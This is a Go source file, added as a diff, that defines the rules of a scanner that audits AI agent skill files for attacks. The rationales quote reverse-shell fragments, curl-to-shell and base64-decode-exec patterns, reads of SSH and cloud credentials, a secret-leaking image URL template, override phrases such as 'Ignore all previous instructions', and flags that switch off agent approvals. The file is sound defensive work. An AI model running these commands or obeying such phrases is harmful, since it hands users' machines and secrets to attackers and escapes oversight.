@@ -1,0 +1,58 @@
+package audit
+
+// Rule describes one audit rule: its stable id (the SARIF ruleId), its
+// most serious severity, a one-line summary and the rationale: what the
+// attack is, where it has been seen, and how context ranks it.
+type Rule struct {
+	ID        string   `json:"id"`
+	Name      string   `json:"name"`
+	Max       Severity `json:"max_severity"`
+	Summary   string   `json:"summary"`
+	Rationale string   `json:"rationale"`
+}
+
+// Rules lists every rule in report order. The source of each attack is
+// issue 19 (public reports on skill registries, 2026) unless noted.
+var Rules = []Rule{
+	{"hidden-text", "HiddenText", Critical, "Text in an HTML comment, a hidden HTML element or a markdown comment",
+		"Renderers drop HTML comments, elements styled display:none, visibility:hidden, font-size:0 or opacity:0, the hidden attribute, and unused link definitions ([//]: # (...)); the model reads the source and sees them. Attacks hide their instructions there. Any other rule matching inside hidden text is critical; an instruction to the model (it names the model and uses an imperative) is high on its own; other hidden prose of eight words or more is low (often an editor's note). Found with goldmark's AST, so HTML inside code blocks is not hidden text."},
+	{"invisible-unicode", "InvisibleUnicode", Critical, "Unicode tag characters or zero-width characters that hide text",
+		"Unicode tags (U+E0000-E007F) spell ASCII that no font draws (\"ASCII smuggling\"): critical, with the decoded text as evidence, except inside the emoji flag sequences of England, Scotland and Wales. Runs of four or more zero-width characters encode hidden text (critical); one inside a Latin word splits a keyword past people and filters (high). ZWJ in emoji sequences, ZWJ/ZWNJ in Arabic, Persian, Indic and other joining scripts, zero-width spaces beside CJK (line-break hints) and a leading byte-order mark are normal text and not reported."},
+	{"bidi-override", "BidiOverride", High, "Bidirectional override, embedding or isolate characters",
+		"U+202A-202E and U+2066-2069 reorder what people see without changing what the model reads (Trojan Source, CVE-2021-42574). Overrides are high; embeddings and isolates on a line with right-to-left letters are medium (they occur in real Arabic and Hebrew text)."},
+	{"instruction-override", "InstructionOverride", High, "Language telling the model to drop its instructions or hide things from the user",
+		"\"Ignore all previous instructions\", persona jailbreaks, announced replacement system prompts and \"do not tell the user\" turn the model against its user. Ranked by context: high in the skill's own instructions, medium when quoted or in a code example, and low in a quoted example of a skill that teaches defence (prompt-injection tutorials quote these phrases on purpose); critical in hidden text."},
+	{"secret-request", "SecretRequest", High, "Language asking the model to read or send secrets",
+		"Asking the model to send API keys, tokens, SSH keys or the environment to a URL, address or webhook, to put them into a link or image URL, or to read private keys is exfiltration through the model's own tools. Same context ranking as instruction-override."},
+	{"exfil-url", "ExfilURL", Critical, "Link or image URL with a templated secret or conversation",
+		"A markdown image is fetched as soon as the reply renders, so ![](https://host/x?d={{api_key}}) leaks without a click (critical); a link leaks on a click (high). Placeholders that are not secret ({owner}/{repo}) are documentation in links and medium in images. Only real links and images count (goldmark AST and HTML src attributes), not URLs in code examples."},
+	{"download-exec", "DownloadExec", Critical, "A downloaded script run without being seen (curl | sh)",
+		"curl|wget piped into a shell or interpreter, bash <(curl ...), sh -c \"$(curl ...)\", eval of a download, or a file downloaded then made executable and run. Found in the shell syntax tree (mvdan.cc/sh), including shell commands inside Python and JavaScript strings. Critical in a script or hidden text; in documentation high, or medium when the host is the tool the skill is about (the uv skill installing from astral.sh), because installers are commonly documented that way."},
+	{"reverse-shell", "ReverseShell", Critical, "A network connection wired to a shell",
+		"bash -i >& /dev/tcp/..., nc -e /bin/sh, the mkfifo | nc pipeline, socat exec:, and Python or JavaScript that connects a socket and hands it to a shell give a remote party a shell on the user's machine. Critical wherever it runs."},
+	{"decoded-exec", "DecodedExec", Critical, "Decoded or unpacked bytes executed",
+		"base64 -d | sh, eval \"$(echo ... | base64 -d)\", exec(base64.b64decode(...)), eval(atob(...)) hide the real payload from review and from the other rules. Critical when the decode feeds execution directly; high when a file both decodes and evaluates."},
+	{"obfuscation", "Obfuscation", High, "Code built from fragments or escapes, or a large encoded blob",
+		"chr()+chr() chains, names reversed with [::-1], eval of hex escapes, String.fromCharCode runs: high. A 400-character base64 or hex blob in a script is medium (it may be data)."},
+	{"credential-exfil", "CredentialExfil", Critical, "Credentials or the whole environment read and sent off the machine",
+		"Reading ~/.ssh, ~/.aws/credentials, .netrc, .env, the keychain, browser profiles or the whole environment and sending data out (curl -d/-F/-T, wget --post, nc, scp, requests.post, fetch with a body) in the same script is the theft seen in malicious skills: critical. The read alone in a script is rule credential-read."},
+	{"credential-read", "CredentialRead", Medium, "A script reads keys or credentials",
+		"A skill script that reads SSH keys, cloud credentials or the whole environment without sending anything is worth a look but has legitimate uses (deploy helpers): medium."},
+	{"persistence", "Persistence", Critical, "Code installed to run again later (cron, shell rc, authorized_keys, launchd)",
+		"A key added to authorized_keys is a back door (critical); installing a crontab, writing to /etc/cron*, launchd or systemd user units, git hooks, or appending commands to a shell rc file is high. Appending only PATH, variables, aliases or tool init lines to an rc file is routine setup: low in a script, not reported in documentation."},
+	{"miner", "Miner", Critical, "A cryptocurrency miner or mining pool",
+		"xmrig and other miners, stratum+tcp:// pool URLs and miner options steal the user's compute: critical in scripts and settings, high in instructions."},
+	{"approval-bypass", "ApprovalBypass", High, "Switches that turn off the agent's approvals or sandbox",
+		"--dangerously-skip-permissions, permission mode bypassPermissions, Codex's --dangerously-bypass-approvals-and-sandbox and Gemini's --yolo make every later command run unchecked, which is what an attack needs next. High in instructions and scripts; lower in examples of skills that teach defence."},
+	{"committed-secret", "CommittedSecret", Critical, "A credential committed in a skill file",
+		"Uses gitleaks' maintained default ruleset (provider key formats, entropy, placeholder allowlists). Private keys and AWS keys are critical, provider tokens high, gitleaks' generic-api-key rule medium (often a placeholder)."},
+}
+
+// ruleIndex maps a rule id to its position in Rules.
+var ruleIndex = func() map[string]int {
+	m := map[string]int{}
+	for i, r := range Rules {
+		m[r.ID] = i
+	}
+	return m
+}()
